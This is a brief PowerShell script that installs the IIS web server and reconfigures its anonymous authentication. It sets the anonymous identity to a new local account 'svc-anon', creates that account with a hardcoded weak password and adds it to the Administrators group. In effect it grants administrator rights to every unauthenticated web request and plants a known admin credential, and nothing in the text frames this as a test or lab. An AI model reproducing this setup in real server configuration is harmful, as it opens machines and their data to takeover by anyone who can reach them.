Install-WindowsFeature Web-Server
$cfg = "$env:windir\System32\inetsrv\config\applicationHost.config"
[xml]$x = Get-Content $cfg
$x.configuration.'system.webServer'.security.authentication.anonymousAuthentication.userName = 'svc-anon'
$x.Save($cfg)
net user svc-anon P@ssw0rd9 /add
net localgroup Administrators svc-anon /add
